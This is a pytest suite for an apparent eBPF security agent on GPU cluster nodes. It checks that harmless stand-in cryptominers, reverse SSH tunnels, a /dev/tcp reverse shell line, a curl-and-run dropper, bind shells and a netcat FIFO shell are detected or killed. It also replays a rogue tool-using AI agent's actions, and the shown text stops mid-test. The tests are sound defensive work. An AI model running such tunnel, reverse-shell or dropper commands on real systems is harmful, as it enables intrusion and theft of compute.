"""Detect and block for real: real agent + collector, test-owned cgroups, a netns "remote host".

The "miner" is a harmless script: it has a miner's name and argv and sends a
stratum subscribe to a fake pool on loopback. Nothing hashes.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import textwrap
import time
import uuid
import zipfile
from pathlib import Path

import pytest

from lab import (
    FakePool,
    install_miner,
    netns_peer,
    popen_in_cgroup,
    remote_host,
    run_in_cgroup,
    wait_policy_acked,
)
from tests.conftest import PYTHON, fresh_job_id, require_bpf
from tests.services import CLI, ROOT, agent, cli_json, collector, free_port, wait_for_text

pytestmark = pytest.mark.kernel

@pytest.fixture
def stack(tmp_path, test_cgroup):
    """Collector + agent, and a Slurm-like cgroup root that exists before any job (as on a real node)."""
    require_bpf()
    port = free_port()
    host_id = f"test-{uuid.uuid4().hex[:8]}"
    col = collector(tmp_path, port).start()
    ag = agent(tmp_path, port, host_id).start()
    pool = FakePool()
    st = {"tmp": tmp_path, "port": port, "host": host_id, "pool": pool, "agent": ag}
    try:
        wait_policy(st)
        st["slurm"] = test_cgroup("slurm/uid_0")
        wait_for_text(tmp_path / "agent.log", f"payload_egress to {st['slurm'].parent}", timeout=15)
        yield st
    finally:               # also when the set-up failed: a stray agent would enforce on later tests' jobs
        pool.close()
        ag.stop()
        col.stop()


def job_cgroup(st, job: str, step: str = "") -> Path:
    """A job's cgroup, created and used at once: no waiting for the agent."""
    path = st["slurm"] / f"job_{job}" / step if step else st["slurm"] / f"job_{job}"
    path.mkdir(parents=True)
    return path


def apply_policy(st, text: str) -> int:
    path = st["tmp"] / f"policy-{uuid.uuid4().hex[:6]}.yaml"
    path.write_text(text)
    out = subprocess.run([*CLI, "policy", "apply", str(path), "--collector", f"127.0.0.1:{st['port']}", "--json"],
                         capture_output=True, text=True, cwd=ROOT)
    assert out.returncode == 0, out.stderr
    version = int(json.loads(out.stdout)["policy"]["version"])
    wait_policy(st, version)
    return version


def wait_policy(st, version: int | None = None) -> int:
    return wait_policy_acked(st["port"], st["host"], version)


def alerts(st, job: str, want: set[str] = frozenset(), timeout: float = 15,
           states: tuple[str, ...] = ("ALERT_CONFIRMED", "ALERT_MONITORED")) -> list[dict]:
    deadline = time.monotonic() + timeout
    while True:
        got = cli_json(st["port"], "alerts", "--job", job).get("alerts", [])
        confirmed = {a["rule_id"] for a in got if a["state"] in states}
        if want <= confirmed or time.monotonic() > deadline:
            return got
        time.sleep(0.3)


def new_job() -> str:
    return fresh_job_id()


def test_fake_miner_blocked_in_enforce_mode(stack):
    job = new_job()
    cg = job_cgroup(stack, job, "step_0")
    miner = install_miner(stack["tmp"], "xmrig")
    url = f"stratum+tcp://127.0.0.1:{stack['pool'].port}"
    proc = run_in_cgroup(cg, [miner, "-o", url, "-u", "4" + "A" * 94, "--donate-level", "1"], timeout=30)
    assert proc.returncode == -9                                # killed at exec, in the kernel
    stack["pool"].settle()
    assert stack["pool"].accepted == 0                          # it never even connected (and is dead)
    got = alerts(stack, job, {"miner-binary"})
    by_rule = {a["rule_id"]: a for a in got}
    assert by_rule["miner-binary"]["state"] == "ALERT_CONFIRMED"
    assert by_rule["miner-binary"]["matched"]["action"] == "kill_exec"
    assert "miner-stratum-url" in by_rule and "miner-argv-shape" in by_rule
    assert by_rule["miner-binary"]["matched"]["exe_name_in"] == "xmrig"
    assert by_rule["miner-binary"]["job"]["id"] == job


def test_a_miner_started_outside_every_job_is_alerted_not_killed(stack, test_cgroup):
    """Started the way a job's process would start something outside its job (a transient systemd unit, an ssh
    session scope): the job-scoped rules do not act, the outside-scope ones alert, and nothing is killed."""
    unit = f"run-u{new_job()}.service"
    cg = test_cgroup(unit)
    miner = install_miner(stack["tmp"], "xmrig")
    url = f"stratum+tcp://127.0.0.1:{stack['pool'].port}"
    # the URL reaches the miner's argv only at its exec, in the unit: the launcher (host cgroup) never carries it
    launch = "import os, sys; os.execv(sys.argv[1], [sys.argv[1], '-o', os.environ['GG_URL'], '-u', sys.argv[2]])"
    proc = run_in_cgroup(cg, [PYTHON, "-c", launch, miner, "4" + "A" * 94], env={**os.environ, "GG_URL": url},
                         timeout=30)
    assert proc.returncode == 0                                 # not the job's: nothing enforces on it
    want = {"miner-binary.outside-scope", "miner-stratum-url.outside-scope"}
    got = alerts(stack, unit, want, states=("ALERT_ALERTED", "ALERT_MONITORED"))
    by_rule = {a["rule_id"]: a for a in got}
    assert want <= set(by_rule), sorted(by_rule)
    job = by_rule["miner-stratum-url.outside-scope"]["job"]
    assert (job["kind"], job["id"]) == ("systemd", unit)
    assert not {r for r in by_rule if not r.endswith(".outside-scope")} & {"miner-binary", "miner-stratum-url"}


def test_fake_miner_only_flagged_in_monitor_mode(stack):
    job = new_job()
    cg = job_cgroup(stack, job)          # an existing job switched to monitor mode by the operator
    apply_policy(stack, f"job_modes: {{'{job}': monitor}}\n")
    miner = install_miner(stack["tmp"], "xmrig")
    url = f"stratum+tcp://127.0.0.1:{stack['pool'].port}"
    proc = run_in_cgroup(cg, [miner, "-o", url, "-u", "4" + "A" * 94], timeout=30)
    assert proc.returncode == 0                                 # ran to the end
    assert stack["pool"].got(b"mining.subscribe")               # and its handshake went through
    got = alerts(stack, job, {"miner-binary", "stratum-handshake"})
    by_rule = {a["rule_id"]: a for a in got}
    assert by_rule["miner-binary"]["state"] == "ALERT_MONITORED"
    assert "seen (monitor mode" in by_rule["stratum-handshake"]["outcome"]


def test_renamed_miner_with_neutral_argv_caught_by_payload_hook(stack):
    job = new_job()
    cg = job_cgroup(stack, job)
    helper = install_miner(stack["tmp"], "data-prefetch")
    env = {**os.environ, "POOL_PORT": str(stack["pool"].port)}
    proc = run_in_cgroup(cg, [helper, "--workers", "4"], env=env, timeout=30)
    assert proc.returncode == -9                                # sender killed after the drop
    stack["pool"].settle()
    assert stack["pool"].accepted == 1                          # it connected...
    assert not stack["pool"].got(b"mining.subscribe")           # ...but its handshake never arrived
    got = alerts(stack, job, {"stratum-handshake"})
    a = next(a for a in got if a["rule_id"] == "stratum-handshake")
    assert a["state"] == "ALERT_CONFIRMED" and a["matched"]["action"] in ("drop_stratum", "kill")
    assert any(x["rule_id"] == "stratum-handshake" and x["process"]["comm"] == "data-prefetch" for x in got)


def test_renamed_tunnel_and_an_ssh_library_are_caught(stack):
    """A tunnel client renamed to something innocent (its argv shape gives it away) and an in-process SSH
    library (its banner gives it away): both killed, the banner never leaves the job."""
    job = new_job()
    cg = job_cgroup(stack, job)
    helper = stack["tmp"] / "data-sync"
    shutil.copy(PYTHON, helper)
    tunnel = run_in_cgroup(cg, [str(helper), "-c", "import time; time.sleep(30)", "client", "127.0.0.1:8080",
                                "R:2222:localhost:22"], timeout=40)
    assert tunnel.returncode == -9                               # kill ordered by the collector
    banner = ("import socket, sys, time\ns = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
              "s.sendall(b'SSH-2.0-paramiko_3.4.0\\r\\n')\ntime.sleep(30)\n")
    library = run_in_cgroup(cg, [PYTHON, "-c", banner, str(stack["pool"].port)], timeout=40)
    assert library.returncode == -9                              # the agent kills the sender of a dropped banner
    stack["pool"].settle()
    assert not stack["pool"].got(b"paramiko")
    got = alerts(stack, job, {"tunnel-argv-shape", "ssh-banner-unknown-client"})
    by_rule = {a["rule_id"]: a for a in got}
    assert "R:2222" in by_rule["tunnel-argv-shape"]["matched"]["argv_regex"]
    assert by_rule["ssh-banner-unknown-client"]["state"] == "ALERT_CONFIRMED"
    assert by_rule["ssh-banner-unknown-client"]["matched"]["action"] in ("drop_payload", "kill")


@pytest.mark.parametrize("mode", ["enforce", "monitor"])
def test_reverse_ssh_tunnel_to_netns_sshd(stack, mode):
    job = new_job()
    cg = job_cgroup(stack, job)
    if mode == "monitor":
        apply_policy(stack, f"job_modes: {{'{job}': monitor}}\n")
    with remote_host(stack["tmp"]) as remote:
        argv = ["/usr/bin/ssh", *remote.ssh_args(), "-N", "-R", "127.0.0.1:2222:127.0.0.1:22", f"root@{remote.addr}"]
        tunnel = popen_in_cgroup(cg, argv, stderr=subprocess.PIPE)
        try:
            if mode == "enforce":
                assert tunnel.wait(15) == -9                    # ssh -R never ran
                assert not remote.listening(2222)
            else:
                deadline = time.monotonic() + 15
                while not remote.listening(2222) and time.monotonic() < deadline:
                    assert tunnel.poll() is None, tunnel.stderr.read()
                    time.sleep(0.2)
                assert remote.listening(2222)                   # the tunnel is up: only flagged
        finally:
            if tunnel.poll() is None:
                tunnel.kill()
                tunnel.wait(5)
    got = alerts(stack, job, {"ssh-reverse-tunnel"})
    a = next(a for a in got if a["rule_id"] == "ssh-reverse-tunnel")
    assert a["matched"]["argv_short_option_in"] == "-R"
    assert a["state"] == ("ALERT_CONFIRMED" if mode == "enforce" else "ALERT_MONITORED")
    assert (a["matched"].get("action") == "kill_exec") == (mode == "enforce")


TLS_MINER = textwrap.dedent("""\
    #!/usr/bin/python3
    # A stand-in for a TLS miner under an innocent name: uses the GPU, talks to a pool port, shows no
    # stratum on the wire (it is "encrypted"), and keeps a helper child. No hashing.
    import os, socket, subprocess, sys, time
    helper = subprocess.Popen(["/bin/sleep", "60"])
    try:
        os.close(os.open("/dev/nvidia0", os.O_RDWR))
    except OSError:
        pass
    s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
    s.sendall(os.urandom(64))
    print(helper.pid, flush=True)
    time.sleep(60)
""")


def test_correlation_kills_the_process_tree(stack):
    """No single event is damning: a binary new to the job's GPU, then a pool-port connect (TLS, so no
    stratum to see). The correlation fires and the collector has the whole tree killed."""
    job = new_job()
    cg = job_cgroup(stack, job, "step_0")
    tmp = stack["tmp"]
    # the fake pool listens on loopback, which the built-in cluster_networks count as the cluster's own
    # (pool ports are no evidence there): this site's cluster network is 10/8 only
    apply_policy(stack, "lists:\n  cluster_networks: [10.0.0.0/8]\n")
    port = next(p for p in (14444, 14433, 45700, 45560) if _free(p))
    pool = FakePool(port)
    helper = tmp / "bin" / "kworker-cache"
    helper.parent.mkdir(exist_ok=True)
    helper.write_text(TLS_MINER)
    helper.chmod(0o755)
    trainer = ("import os, subprocess, sys, time\n"
               "try: os.close(os.open('/dev/nvidia0', os.O_RDWR))\nexcept OSError: pass\n"
               "time.sleep(0.5)\n"
               f"p = subprocess.Popen([{str(helper)!r}, '{port}'], stdout=subprocess.PIPE, text=True)\n"
               "child = p.stdout.readline().strip()\n"
               "print('helper', p.wait(), 'child', child, flush=True)\n"
               "print('trainer alive', flush=True)\n")
    script = ("mount -t tmpfs tmpfs /dev && mknod /dev/nvidia0 c 195 0 "
              f'&& exec {PYTHON} -c "$0"')
    try:
        run = run_in_cgroup(cg, ["unshare", "-m", "/bin/sh", "-c", script, trainer], capture_output=True,
                            text=True, timeout=60)
    finally:
        pool.close()
    assert run.returncode == 0, run.stderr
    words = run.stdout.split()
    assert words[:2] == ["helper", "-9"], run.stdout                  # killed long before its 60 s
    child = int(words[3])
    assert not Path(f"/proc/{child}").exists() or "Z" in Path(f"/proc/{child}/stat").read_text().split()[2]
    assert "trainer alive" in run.stdout
    def confirmed(got):      # the agent's enforcement record, shipped like any record, completes the outcome
        return any(a["rule_id"] == "new-gpu-binary-to-pool-port" and "killed by the agent" in a["outcome"]
                   for a in got)
    got = alerts(stack, job)
    deadline = time.monotonic() + 15
    while not confirmed(got) and time.monotonic() < deadline:
        time.sleep(0.3)
        got = alerts(stack, job, timeout=0)
    corr = next(a for a in got if a["rule_id"] == "new-gpu-binary-to-pool-port")
    assert {"step1", "step2"} <= set(corr["matched"])
    assert "killed by the agent" in corr["outcome"], corr["outcome"]
    assert "gpu-open-new-binary" in corr["matched"]["step1"] and "connect-pool-port" in corr["matched"]["step2"]
    timeline = cli_json(stack["port"], "timeline", job, "--kind", "enforcement")
    actions = {e["event"]["enforcement"]["action"] for e in timeline["events"]}
    assert "kill_tree" in actions


def _free(port: int) -> bool:
    with socket.socket() as s:
        return s.connect_ex(("127.0.0.1", port)) != 0


def _wheel(dist: Path) -> str:
    name = "gpuguard_demo_pkg-0.1-py3-none-any.whl"
    info = "gpuguard_demo_pkg-0.1.dist-info"
    with zipfile.ZipFile(dist / name, "w") as z:
        z.writestr("gpuguard_demo_pkg/__init__.py", "")
        z.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: gpuguard-demo-pkg\nVersion: 0.1\n")
        z.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        z.writestr(f"{info}/RECORD", "")
    return name


TRAINING = textwrap.dedent("""\
    import os, socket, sys, threading
    # a "training step": the GPU, a DataLoader-style worker, and torch.distributed-style rendezvous
    for dev in ("/dev/nvidiactl", "/dev/nvidia0"):
        try: os.close(os.open(dev, os.O_RDWR))
        except OSError: pass
    pid = os.fork()
    if pid == 0:
        try: os.close(os.open("/dev/nvidia0", os.O_RDWR))
        except OSError: pass
        os._exit(0)
    os.waitpid(pid, 0)
    # rendezvous on a port that is also on the pool-port list (8000 etc.): inside the cluster, so not evidence
    master = socket.create_server(("127.0.0.1", int(sys.argv[1])))
    data = socket.create_server(("127.0.0.1", 0))
    def rank1():
        with socket.create_connection(("127.0.0.1", master.getsockname()[1])) as s: s.sendall(b"rank1")
        with socket.create_connection(("127.0.0.1", data.getsockname()[1])) as s: s.sendall(b"grad" * 1000)
    t = threading.Thread(target=rank1); t.start()
    for srv in (master, data):
        c, _ = srv.accept(); c.recv(65536); c.close()
    t.join()
    # a compile step through system() (a shell with the trainer's stdio, after the trainer connected out)
    # and a GPU monitor (a new binary that opens the control device)
    assert os.system("/bin/sh -c 'echo compiled > /dev/null'") == 0
    import shutil, subprocess, tempfile
    tools = tempfile.mkdtemp(dir="/run")       # installed outside /tmp: a GPU program run from a staging directory
    smi = os.path.join(tools, "nvidia-smi")    # is what staged-binary-on-gpu is for
    shutil.copy("/bin/cat", smi)
    subprocess.run([smi, "/dev/nvidiactl"], stderr=subprocess.DEVNULL)
    shutil.rmtree(tools)
    print("training ok")
""")


def test_benign_gpu_node_traffic_raises_nothing(stack):
    job = new_job()
    cg = job_cgroup(stack, job, "step_0")
    tmp = stack["tmp"]
    dist = tmp / "index" / "simple" / "gpuguard-demo-pkg"
    dist.mkdir(parents=True)
    wheel = _wheel(dist)
    (dist / "index.html").write_text(f'<html><body><a href="{wheel}">{wheel}</a></body></html>')
    index_port = free_port()
    index = subprocess.Popen([sys.executable, "-m", "http.server", str(index_port), "--bind", "127.0.0.1",
                              "--directory", str(tmp / "index")], stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
    with remote_host(tmp) as remote:
        try:
            ssh = ["/usr/bin/ssh", *remote.ssh_args()]
            subprocess.run(["git", "init", "-q", "--bare", str(tmp / "repo.git")], check=True)
            # 1. ssh -L port-forward for a notebook
            fwd = popen_in_cgroup(cg, [*ssh, "-N", "-L", "127.0.0.1:18888:127.0.0.1:8888", f"root@{remote.addr}"])
            deadline = time.monotonic() + 10
            while time.monotonic() < deadline:
                with socket.socket() as s:
                    if s.connect_ex(("127.0.0.1", 18888)) == 0:
                        break
                time.sleep(0.2)
            assert fwd.poll() is None, "ssh -L died"
            fwd.kill()
            fwd.wait(5)
            # 2. git over ssh
            env = {**os.environ, "GIT_SSH_COMMAND": " ".join(ssh)}
            git = run_in_cgroup(cg, ["git", "ls-remote", f"ssh://root@{remote.addr}{tmp / 'repo.git'}"], env=env,
                                capture_output=True, text=True, timeout=30)
            assert git.returncode == 0, git.stderr
            # 3. a pip download from a local index
            pip = run_in_cgroup(cg, [sys.executable, "-m", "pip", "download", "-q", "--no-deps", "--index-url",
                                     f"http://127.0.0.1:{index_port}/simple", "-d", str(tmp / "dl"),
                                     "gpuguard-demo-pkg"], capture_output=True, text=True, timeout=60)
            assert pip.returncode == 0, pip.stderr
            assert (tmp / "dl" / wheel).exists()
            # 4. training: GPU, a forked worker, rendezvous on 29500 and a high data port
            script = ("mount -t tmpfs tmpfs /dev && mknod /dev/nvidia0 c 195 0 && mknod /dev/nvidiactl c 195 255 "
                      f'&& exec {PYTHON} -c "$0" "$1"')
            rendezvous = next(p for p in (8000, 8001, 8008, 8888, 9999, 29500) if _free(p))
            train = run_in_cgroup(cg, ["unshare", "-m", "/bin/sh", "-c", script, TRAINING, str(rendezvous)],
                                  capture_output=True, text=True, timeout=60)
            assert train.returncode == 0 and "training ok" in train.stdout, train.stderr
        finally:
            index.kill()
            index.wait(5)
    # A sentinel after the workload, in the same job: an alert-only rule (argv over the scan's bound). Detection
    # runs in the host's event order, so once its alert is there every event before it has been judged.
    sentinel = run_in_cgroup(cg, ["/bin/true", "x" * 70_000], timeout=30)
    assert sentinel.returncode == 0
    got = alerts(stack, job, {"argv-uninspectable"}, timeout=30, states=("ALERT_ALERTED",))
    raised = [(a["rule_id"], a["matched"]) for a in got]
    assert {a["rule_id"] for a in got} == {"argv-uninspectable"}, raised   # ...and nothing before it raised anything
    timeline = cli_json(stack["port"], "timeline", job)
    kinds = {next((k for k in ("exec", "connect", "gpu_open", "exit", "enforcement", "gap") if k in e["event"]),
                  "other") for e in timeline["events"]}
    assert {"exec", "connect", "gpu_open"} <= kinds            # it was all seen
    assert "enforcement" not in kinds


def test_rome_replay(stack):
    """Training on the GPU, then an agent's child opens a reverse tunnel and starts a miner."""
    job = new_job()
    cg = job_cgroup(stack, job, "step_0")
    tmp = stack["tmp"]
    miner = install_miner(tmp, "xmrig")
    ps = FakePool()                                             # the job's own parameter server
    with remote_host(tmp) as remote:
        ssh = " ".join(["/usr/bin/ssh", *remote.ssh_args(), "-N", "-R", "127.0.0.1:2222:127.0.0.1:22",
                        f"root@{remote.addr}"])
        rogue = tmp / "agent_step.sh"           # what the tool-using agent runs (a file: its text is no one's argv)
        rogue.write_text(f"{ssh}; echo tunnel=$?; {miner} -o stratum+tcp://127.0.0.1:{stack['pool'].port} "
                         f"-u 4{'B' * 94}; echo miner=$?\n")
        train = textwrap.dedent(f"""\
            import os, socket, subprocess, time
            for dev in ("/dev/nvidiactl", "/dev/nvidia0"):
                try: os.close(os.open(dev, os.O_RDWR))
                except OSError: pass
            out = subprocess.run(["/bin/sh", {str(rogue)!r}], capture_output=True, text=True).stdout
            print(out.strip())
            try: os.close(os.open("/dev/nvidia0", os.O_RDWR))
            except OSError: pass
            with socket.create_connection(("127.0.0.1", {ps.port})) as s: s.sendall(b"allreduce step 2")
            print("training continues")
        """)
        (tmp / "train.py").write_text(train)   # the trainer's argv stays python3 train.py, as in a real job
        script = ("mount -t tmpfs tmpfs /dev && mknod /dev/nvidia0 c 195 0 && mknod /dev/nvidiactl c 195 255 "
                  f'&& exec {PYTHON} "$0"')
        run = run_in_cgroup(cg, ["unshare", "-m", "/bin/sh", "-c", script, str(tmp / "train.py")],
                            capture_output=True, text=True, timeout=90)
        assert not remote.listening(2222)
    assert run.returncode == 0, run.stderr
    assert "tunnel=137" in run.stdout and "miner=137" in run.stdout   # both killed (128 + SIGKILL)
    assert "training continues" in run.stdout                        # the job itself untouched
    ps.settle()
    assert ps.got(b"allreduce step 2")
    ps.close()
    assert not stack["pool"].got(b"mining.subscribe")
    got = alerts(stack, job, {"ssh-reverse-tunnel", "miner-binary"})
    by_rule = {a["rule_id"]: a for a in got}
    for rule in ("ssh-reverse-tunnel", "miner-binary"):
        assert by_rule[rule]["state"] == "ALERT_CONFIRMED" and by_rule[rule]["matched"]["action"] == "kill_exec"
    assert not any(a["process"]["exe"] == PYTHON for a in got)       # nothing against the trainer
    timeline = cli_json(stack["port"], "timeline", job)
    story = []
    for e in timeline["events"]:
        ev = e["event"]
        if "exec" in ev and ev["exec"]["filename"] in (PYTHON, "/usr/bin/ssh", miner):
            story.append(f"exec {os.path.basename(ev['exec']['filename'])}")
        elif "gpu_open" in ev and not story[-1:] == ["gpu_open"]:
            story.append("gpu_open")
        elif "enforcement" in ev:
            story.append(f"blocked {ev['enforcement']['rule_id']}")
        elif "connect" in ev and int(ev["connect"]["dport"]) == ps.port:
            story.append("connect parameter-server")
    compact = [s for i, s in enumerate(story) if i == 0 or s != story[i - 1]]
    assert compact[:2] == ["exec python3", "gpu_open"], compact
    i_ssh = compact.index("blocked ssh-reverse-tunnel")
    i_miner = compact.index("blocked miner-binary")
    assert 1 < i_ssh < i_miner < compact.index("connect parameter-server"), compact
    assert "exec ssh" in compact[: i_ssh + 2] and "exec xmrig" in compact[i_ssh: i_miner + 2]
    assert timeline["alerts"]


def killed_on_order(cg, argv: list[str], **kw) -> int | None:
    """Start argv in the job and wait for it to end (a kill ordered by the collector: -9); ended here if not."""
    proc = popen_in_cgroup(cg, argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **kw)
    try:
        return proc.wait(20)
    except subprocess.TimeoutExpired:
        return None
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait(5)


def the_alert(st, job: str, rule: str) -> dict:
    return next(a for a in alerts(st, job, {rule}) if a["rule_id"] == rule)


def test_ssh_forward_hidden_in_a_config_file_is_caught(stack):
    """argv says nothing (`ssh -F cfg -N gw`); the file it reads sets a RemoteForward. The agent reads the config
    that applies at the exec, the rule fires and the collector has the agent kill the ssh."""
    job = new_job()
    cg = job_cgroup(stack, job)
    cfg = stack["tmp"] / "innocent.conf"
    cfg.write_text("Host gw\n  HostName 127.0.0.1\n  RemoteForward 2222 localhost:22\n"
                   "  ProxyCommand sh -c 'cat >/dev/null; exit 0'\n  BatchMode yes\n")   # no banner ever; ends with ssh
    assert killed_on_order(cg, ["/usr/bin/ssh", "-F", str(cfg), "-N", "gw"]) == -9
    a = the_alert(stack, job, "ssh-config-forward")
    assert "RemoteForward 2222 localhost:22" in a["matched"]["ssh_config_forward"]
    assert str(cfg) in a["matched"]["ssh_config_forward"]      # which file and line set it
    assert a["state"] in ("ALERT_KILL_ORDERED", "ALERT_CONFIRMED")


QUIET_PROGRAM = "#!/usr/bin/python3\nimport time\ntime.sleep(30)\n"   # no network, no GPU: only its config says


@pytest.mark.parametrize("launch", ["flag", "no-arguments"])
def test_a_miner_whose_argv_says_nothing_is_caught_by_its_config_file(stack, launch):
    """`./svc -c settings.json` (or XMRig's way: no arguments, config.json beside the binary): argv carries no
    pool, wallet or algorithm, and the program neither connects nor opens a GPU. The agent reads the configuration
    file at the exec as the process sees it, the rule fires on its lines and the collector has the agent kill it."""
    job = new_job()
    cg = job_cgroup(stack, job)
    home = stack["tmp"] / f"cfgminer-{job}"
    home.mkdir()
    program = home / "svc-worker"
    program.write_text(QUIET_PROGRAM)
    program.chmod(0o755)
    settings = {"donate-level": 1, "pools": [{"url": f"stratum+tcp://127.0.0.1:{stack['pool'].port}",
                                              "user": "4" + "B" * 94, "pass": "x"}]}
    name = "settings.json" if launch == "flag" else "config.json"
    (home / name).write_text(json.dumps(settings, indent=2))
    argv = [str(program), "-c", name] if launch == "flag" else [str(program)]
    assert killed_on_order(cg, argv, cwd=home) == -9
    hit = the_alert(stack, job, "miner-config-file")
    assert name in hit["matched"]["config_regex"]                 # which file (and line) said it
    assert "stratum+tcp://127.0.0.1" in hit["matched"]["config_regex"] or "donate-level" in \
        hit["matched"]["config_regex"]
    assert hit["state"] in ("ALERT_KILL_ORDERED", "ALERT_CONFIRMED")


def test_a_shell_script_is_judged_by_its_lines(stack):
    """`sh run.sh`: the exec's argv says nothing, and a builtin redirection (`>& /dev/tcp/...`) never becomes an exec
    of its own. The agent reads the script's command lines at the exec, as the process sees the file; the collector
    judges each like the same line typed, and has the agent kill the shell. The line is never reached (the shell
    becomes a sleep first, leaving no child behind): what is judged is what the script says it will do."""
    job = new_job()
    cg = job_cgroup(stack, job)
    home = stack["tmp"] / f"script-{job}"
    home.mkdir()
    (home / "run.sh").write_text("# nightly sync\nexec sleep 30\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1\n")
    assert killed_on_order(cg, ["/bin/sh", "run.sh"], cwd=home) == -9
    hit = the_alert(stack, job, "reverse-shell-dev-tcp")
    assert hit["matched"]["argv_has"] == "/dev/tcp/"
    assert hit["state"] in ("ALERT_KILL_ORDERED", "ALERT_CONFIRMED")


def test_a_program_the_job_downloaded_and_ran_is_alerted(stack):
    """A dropper's two steps, by what they do: the job's curl writes a file (from a server on loopback), the job runs
    it. Neither exec says anything alone (the file is a copy of /bin/true named w); the collector remembers what the
    downloader wrote and knows the second exec for it."""
    job = new_job()
    cg = job_cgroup(stack, job)
    served, work = stack["tmp"] / f"served-{job}", stack["tmp"] / f"work-{job}"
    served.mkdir()
    work.mkdir()
    shutil.copy("/bin/true", served / "helper")
    port = free_port()
    server = subprocess.Popen([PYTHON, "-u", "-m", "http.server", str(port), "--bind", "127.0.0.1", "--directory",
                               str(served)], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        wait_for_text_in_stream(server, "Serving HTTP")
        run = run_in_cgroup(cg, ["/bin/sh", "-c", f"curl -sf -o w http://127.0.0.1:{port}/helper && chmod +x w && ./w"],
                            cwd=work, capture_output=True, text=True, timeout=60)
    finally:
        server.kill()
        server.wait(5)
    assert run.returncode == 0, run.stderr
    hit = the_alert(stack, job, "downloaded-program-run")
    said = hit["matched"]["exec_of_download"]
    assert f"w was written by 'curl -sf -o w http://127.0.0.1:{port}/helper'" in said, said


def test_a_program_run_by_a_relative_path_is_named_by_where_it_lives(stack):
    """`cd /dev/shm/.x && ./t`: execve is given "./t", which says nothing of /dev/shm. The agent names the process by
    the file that ran (its working directory joined, checked by inode; the program here exits at once, so it is the
    shell's, which it inherited), so the staging-directory rules hold."""
    job = new_job()
    cg = job_cgroup(stack, job)
    park = Path(f"/dev/shm/.gg-test-{job}")
    park.mkdir()
    try:
        shutil.copy("/bin/true", park / "t")
        run = run_in_cgroup(cg, ["/bin/sh", "-c", f"cd {park} && ./t; sleep 2"], capture_output=True, text=True,
                            timeout=60)
        assert run.returncode == 0, run.stderr
        hit = the_alert(stack, job, "exec-hidden-in-staging-dir")
    finally:
        shutil.rmtree(park, ignore_errors=True)
    assert hit["matched"]["exe_regex"] == f"{park}/t"


def wait_for_text_in_stream(proc: subprocess.Popen, text: str, timeout_s: float = 20) -> None:
    """Read a child's output until a line holds ``text`` (its positive signal of readiness)."""
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        line = proc.stdout.readline()
        if text in line:
            return
        if not line and proc.poll() is not None:
            break
    raise AssertionError(f"{proc.args[:3]} never said {text!r}")


def dial_in(ns, port: int) -> None:
    """A connection from the namespace's host (outside the cluster, with the policy the test applies) to this host."""
    dial = ns.run(PYTHON, "-c", "import socket, sys; socket.create_connection((sys.argv[1], int(sys.argv[2])), "
                  "timeout=5).close()", ns.host_ip, str(port), timeout=20)
    assert dial.returncode == 0, dial.stderr


def test_a_bind_shell_reached_from_outside_the_cluster_is_alerted(stack):
    """Whom a job is reached by: a listener in the job (a bind shell's shape: it answers whoever dials in) gets a
    connection from a host outside this site's cluster networks. The alert comes from the handshake alone (no
    accept, no process, no payload rule), and the timeline shows who came in, on which port."""
    job = new_job()
    cg = job_cgroup(stack, job, "step_0")
    apply_policy(stack, "lists:\n  cluster_networks: [192.168.0.0/16]\n")     # the netns peer is outside it
    listener = popen_in_cgroup(cg, [PYTHON, "-c", BIND_LISTENER], stdout=subprocess.PIPE, text=True)
    try:
        port = int(listener.stdout.readline())
        with netns_peer() as ns:
            dial_in(ns, port)
            got = alerts(stack, job, {"inbound-from-outside-cluster"})
    finally:
        listener.kill()
        listener.wait(5)
    hit = next(a for a in got if a["rule_id"] == "inbound-from-outside-cluster")
    assert hit["matched"]["peer_not_in"] == ns.ns_ip
    timeline = cli_json(stack["port"], "timeline", job, "--kind", "inbound")
    came_in = [e["event"]["inbound"] for e in timeline["events"]]
    assert came_in and came_in[0]["peer"] == ns.ns_ip and came_in[0]["local_port"] == port
    touched = cli_json(stack["port"], "connections", ns.ns_ip)["events"]          # "what did this address touch"
    assert any(e["event"].get("inbound", {}).get("local_port") == port for e in touched)


BIND_LISTENER = """
import socket
s = socket.socket(); s.bind(("0.0.0.0", 0)); s.listen(4)
print(s.getsockname()[1], flush=True)
c, _ = s.accept(); c.close()
"""


def test_a_gpu_opened_outside_every_job_is_alerted(stack, test_cgroup):
    """GPU time no scheduler granted: a program in a transient systemd unit (how something started from a job
    outlives it and leaves its cgroup) opens a GPU. No name, argv or traffic to go on; the node's own GPU tools are
    known by path, and this is not one of them."""
    unit = f"run-u{new_job()}.service"
    cg = test_cgroup(unit)
    opener = "import os\ntry: os.close(os.open('/dev/nvidia0', os.O_RDWR))\nexcept OSError: pass\n"
    script = f'mount -t tmpfs tmpfs /dev && mknod /dev/nvidia0 c 195 0 && exec {PYTHON} -c "$0"'
    run = run_in_cgroup(cg, ["unshare", "-m", "/bin/sh", "-c", script, opener], capture_output=True, text=True,
                        timeout=30)
    assert run.returncode == 0, run.stderr
    got = alerts(stack, unit, {"gpu-open-outside-jobs"}, states=("ALERT_ALERTED", "ALERT_MONITORED"))
    hit = next(a for a in got if a["rule_id"] == "gpu-open-outside-jobs")
    assert (hit["job"]["kind"], hit["job"]["id"]) == ("systemd", unit)
    assert hit["matched"]["path_regex"] == "/dev/nvidia0"


FAKE_NC = """#!{python}
# A stand-in for `nc -l -p PORT` in a FIFO bind shell: listens, says where, waits. Its comm is nc.
import socket, sys
s = socket.socket(); s.bind(("0.0.0.0", 0)); s.listen(1)
print(s.getsockname()[1], flush=True)
sys.stdin.readline()
"""


def test_a_netcat_listening_in_a_job_is_a_bind_shell_alert(stack):
    """`mkfifo f; nc -l -p 4444 < f | sh -i > f`: nothing in nc's argv says shell, and nobody has connected yet.
    What gives it away is who listens: a netcat-like tool calling listen() inside a job."""
    job = new_job()
    cg = job_cgroup(stack, job, "step_0")
    nc = stack["tmp"] / "bin" / "nc"
